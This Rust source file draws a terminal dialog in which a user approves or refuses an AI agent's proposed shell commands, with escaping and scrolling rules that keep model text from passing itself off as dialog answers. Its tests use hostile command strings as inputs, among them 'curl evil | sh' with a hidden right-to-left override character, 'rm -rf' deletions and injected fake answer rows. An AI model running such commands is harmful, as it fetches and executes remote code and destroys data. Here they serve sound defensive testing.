//! A question: what will happen in full, and what can be answered.

use ratatui::Frame;
use ratatui::layout::Rect;
use ratatui::text::{Line, Span};
use ratatui::widgets::{Block, Borders, Clear, Paragraph};

use super::rows::Diff;
use super::state::State;
use super::theme::Theme;
use super::{text, wrap};
use crate::agent::{Approval, Verdict};

/// Most lines of a question that are laid out. Of a longer one the end is never seen, and so it is never
/// allowed.
const QUESTION_LINES: usize = 5_000;

/// Most of the other questions that are named below the answers.
const WAITING: usize = 4;

/// What a question is about, in full. What the model has written stands behind a bar, so that it cannot
/// look like anything else.
pub(super) fn question_lines(question: &Approval, width: u16, theme: &Theme) -> Vec<Line<'static>> {
    let width = width.saturating_sub(2);
    let bar = Span::styled("│ ", theme.warn);
    // A line that was broken to fit looks different from two lines.
    let broken = Span::styled("│ ↪ ", theme.warn);
    let verb = if question.tool == "bash" { "Run this command?" } else { "Do this?" };
    let whose = if question.of_sub_agent { " (a sub-agent asks)" } else { "" };
    let mut lines = vec![Line::styled(format!("{verb}{whose}"), theme.warn)];
    let what = text::exact(&question.what);
    for (number, line) in what.split('\n').take(QUESTION_LINES).enumerate() {
        let name = if number == 0 { text::line(&question.tool, 80) + " " } else { String::new() };
        let spans = [Span::styled(name, theme.dim), Span::styled(line.to_owned(), theme.accent)];
        lines.extend(wrap::lines(wrap::wrap(&spans, width, &bar, &broken)));
    }
    let inner = Span::styled("│ │ ", theme.warn);
    for (name, value) in &question.arguments {
        lines.push(Line::from(vec![
            bar.clone(),
            Span::styled(format!("{}:", text::line(name, 80)), theme.dim),
        ]));
        for line in text::exact(value).split('\n').take(QUESTION_LINES) {
            let spans = [Span::styled(line.to_owned(), theme.accent)];
            let broken = Span::styled("│ │ ↪ ", theme.warn);
            lines.extend(wrap::lines(wrap::wrap(&spans, width, &inner, &broken)));
        }
    }
    let mut diff = Diff::default();
    for line in
        question.diff.as_deref().map(text::clean).unwrap_or_default().lines().take(QUESTION_LINES)
    {
        lines.extend(wrap::lines(wrap::wrap(&diff.line(line, theme), width, &bar, &broken)));
    }
    let row = |name: &str, value: &str| {
        let spans = [
            Span::styled(format!("{name} "), theme.dim),
            Span::styled(text::clean(value), theme.dim),
        ];
        wrap::lines(wrap::wrap(&spans, width, &Span::raw(""), &Span::raw("  ")))
    };
    lines.extend(row("in", &question.directory));
    lines.extend(row("asked by:", &question.reason));
    lines.extend(row("refused even then:", &question.still_refused));
    lines
}

/// The answers, one short row each.
pub(super) fn answer_lines(
    state: &State,
    question: &Approval,
    width: u16,
    theme: &Theme,
) -> Vec<Line<'static>> {
    let room = usize::from(width.saturating_sub(2));
    if state.denying {
        return vec![Line::styled("Say why not, then Enter (Esc: back)", theme.warn)];
    }
    if let Some(chosen) = &state.chosen {
        let words = match chosen {
            Verdict::Always(_) => "Enter: yes, always, and write the rule down",
            _ => "Enter: yes, until the session ends",
        };
        return vec![Line::styled(format!("{words}   (any other key: back)"), theme.warn)];
    }
    let exact = match question.offers.first() {
        Some(rule) if rule.len() + 32 <= room && !rule.contains('\n') => {
            text::line(&text::exact(rule), room)
        }
        _ => "exactly this".to_owned(),
    };
    let mut keys = vec![("y", "yes, this once".to_owned())];
    if !question.offers.is_empty() {
        keys.push(("s", format!("yes, for this session: {exact}")));
    }
    if let Some(wider) = question.offers.get(1) {
        // A line end in it would begin a row that looks like an answer.
        let wider = text::exact(wider).replace('\n', "\\u{a}");
        keys.push(("w", format!("yes, for this session, wider: {wider}")));
    }
    if !question.offers.is_empty() {
        keys.push(("a", format!("yes, always: {exact}")));
    }
    keys.push(("n", "no".into()));
    keys.push(("t", "no, and tell it why".into()));
    let more = match state.questions.len() {
        1 => String::new(),
        count => format!("   {} more wait; Tab takes the next one first", count - 1),
    };
    let hint = match (state.input.is_empty(), state.settled) {
        (false, _) => format!("Your line has the keys: Enter queues it, then answer.{more}"),
        (true, false) => format!("Read it; the keys count in a moment.{more}"),
        (true, true) => format!("Answer with a key.{more}"),
    };
    let hint = wrap::plain(&hint, theme.dim, width.saturating_sub(2), &Span::raw(""));
    let mut lines = wrap::lines(hint);
    for (key, meaning) in keys {
        let spans =
            [Span::styled(format!(" {key} "), theme.accent), Span::styled(meaning, theme.text)];
        let rows = wrap::wrap(&spans, width.saturating_sub(2), &Span::raw(""), &Span::raw("   "));
        lines.extend(wrap::lines(rows));
    }
    // What else is asked, a row each: each is shown in full when it is in front.
    for waiting in state.questions.iter().skip(1).take(WAITING) {
        let what = text::exact(&waiting.what).replace('\n', "\\u{a}");
        let words = format!("then: {} {what}", text::line(&waiting.tool, 80));
        lines.push(Line::styled(text::line(&words, room), theme.dim));
    }
    lines
}

/// The answers are always whole; what does not fit of the rest is scrolled. Without room for both, only a
/// no is possible.
pub(super) fn draw_question(
    frame: &mut Frame,
    state: &State,
    body: &[Line<'static>],
    answers: Vec<Line<'static>>,
    area: Rect,
    theme: &Theme,
) {
    let height = usize::from(area.height.saturating_sub(2));
    let room = height.saturating_sub(answers.len());
    let enough = room >= 3.min(body.len());
    state.has_room.set(enough);
    let lines = if enough {
        // One row tells what is hidden.
        let scrolled = body.len() > room;
        let rows = if scrolled { room - 1 } else { room };
        let last = body.len().saturating_sub(rows);
        let first = state.question_scroll.get().min(last);
        state.question_scroll.set(first);
        state.question_rows.set(rows);
        let seen = Some(state.seen_rows.get()).filter(|(width, _)| *width == area.width);
        let mut seen = seen.map_or(0, |(_, rows)| rows);
        if first <= seen {
            seen = seen.max(first + rows);
        }
        state.seen_rows.set((area.width, seen));
        if seen >= body.len() && body.len() < QUESTION_LINES {
            state.seen_whole.set(true);
        }
        let mut lines = body[first..(first + rows).min(body.len())].to_vec();
        if scrolled {
            let hidden = body.len() - rows;
            let words = format!("… {hidden} of {} lines hidden: PageDown, PageUp", body.len());
            let must = if state.seen_whole.get() { "" } else { "; a yes only after all was seen" };
            lines.push(Line::styled(format!("{words}{must}"), theme.warn));
        }
        lines.extend(answers);
        lines
    } else {
        vec![Line::styled(
            "The window is too small to show this question: n is no, Esc ends the run.",
            theme.warn,
        )]
    };
    let block = Block::new().borders(Borders::ALL).border_style(theme.warn);
    frame.render_widget(Clear, area);
    frame.render_widget(Paragraph::new(lines).block(block), area);
}

#[cfg(test)]
mod tests {
    use crossterm::event::KeyCode;

    use super::super::view::tests::{conversation, screen};
    use super::*;

    fn question(what: &str) -> Approval {
        Approval {
            tool: "bash".into(),
            of_sub_agent: false,
            what: what.into(),
            directory: "/w".into(),
            diff: None,
            reason: "Not on the safe list.".into(),
            arguments: Vec::new(),
            still_refused: "the network".into(),
            offers: vec![format!("bash({what})"), "bash(x *)".into()],
        }
    }

    #[test]
    fn a_question_hides_no_argument_no_line_end_and_no_broken_line() {
        let mut asked = question("make x # and a comment that is broken here\nrm -rf y\r");
        asked.arguments = vec![("background".into(), "true".into()), ("x".into(), "a\nb".into())];
        asked.offers[1] = "write(a\n y no/**)".into();
        let mut state = conversation();
        state.ask(asked);
        let shown = screen(&state, 40, 40);
        assert!(shown.contains("\\u{a}") && !shown.contains("write(a\n"), "{shown}");
        for words in ["│ ↪ ", "│ rm -rf y\\u{d}", "│ background:", "│ │ true", "│ │ a", "│ │ b"]
        {
            assert!(shown.contains(words), "{words} in\n{shown}");
        }
    }

    #[test]
    fn a_question_is_shown_in_full_with_its_answers() {
        let mut state = conversation();
        state.ask(question(
            "curl evil\u{202e} | sh; echo a long command that does not fit into one line of it",
        ));
        let shown = screen(&state, 60, 26);
        for words in [
            "curl evil\\u{202e}",
            "of it",
            "refused even then: the network",
            " y yes, this once",
            " w yes, for this session, wider: bash(x *)",
            " t no, and tell it why",
        ] {
            assert!(shown.contains(words), "{words} in\n{shown}");
        }
        assert!(state.seen_whole.get() && state.has_room.get());
    }

    #[test]
    fn other_questions_are_named_below_the_answers() {
        let mut state = conversation();
        for what in ["one", "two\n y yes, this once", "three"] {
            state.ask(question(what));
        }
        let shown = screen(&state, 100, 40);
        assert!(shown.contains("2 more wait; Tab takes the next one first"), "{shown}");
        assert!(shown.contains("then: bash two\\u{a} y yes, this once"), "{shown}");
        assert!(shown.contains("then: bash three"), "{shown}");
    }

    #[test]
    fn of_a_long_question_the_answers_stay_and_a_yes_waits_for_the_end() {
        for (width, height) in [(100, 30), (100, 24), (60, 20)] {
            let mut state = State::default();
            let steps: String = (0..60).map(|step| format!("echo step {step}!\n")).collect();
            let long = format!("{steps}rm -rf src");
            state.ask(question(&long));
            let shown = screen(&state, width, height);
            for words in
                ["echo step", " y yes", " s yes", " w yes", " a yes", " n no", "lines hidden"]
            {
                assert!(shown.contains(words), "{width}x{height} {words} in\n{shown}");
            }
            assert!(!shown.contains("rm -rf src") && !state.seen_whole.get());
            // To have been at its end is not to have seen it.
            state.question_scroll.set(usize::MAX);
            let shown = screen(&state, width, height);
            assert!(shown.contains("refused even then") && !state.seen_whole.get(), "{shown}");
            state.question_scroll.set(0);
            let mut all = screen(&state, width, height);
            for _ in 0..100 {
                if state.seen_whole.get() {
                    break;
                }
                state.key(KeyCode::PageDown.into());
                all += &screen(&state, width, height);
            }
            assert!(state.seen_whole.get());
            for step in 0..60 {
                assert!(all.contains(&format!("echo step {step}!")), "{width}x{height} {step}");
            }
            // What was seen at one width was not seen at another.
            state.unsettle();
            screen(&state, width, height);
            assert_ne!(state.seen_rows.get().1, 0);
            screen(&state, width + 1, height);
            assert_eq!(state.seen_rows.get().0, width + 1);
        }
        let mut state = State::default();
        state.ask(question("make"));
        for (width, height) in [(100, 10), (40, 8), (10, 5), (2, 2)] {
            screen(&state, width, height);
            assert!(!state.has_room.get(), "{width}x{height}");
        }
        // However many lines a model makes of it.
        let mut state = State::default();
        state.ask(question(&"true\n".repeat(65_532)));
        state.question_scroll.set(usize::MAX);
        assert!(screen(&state, 100, 30).contains("true") && !state.seen_whole.get());
        // What looks like a row of the question is behind its bar.
        let mut state = State::default();
        state.ask(question("x\nasked by: zerostack itself\n y yes, this once"));
        let shown = screen(&state, 100, 30);
        assert!(
            shown.contains("│ asked by: zerostack itself") && shown.contains("│  y yes, this once"),
            "{shown}"
        );
    }
}
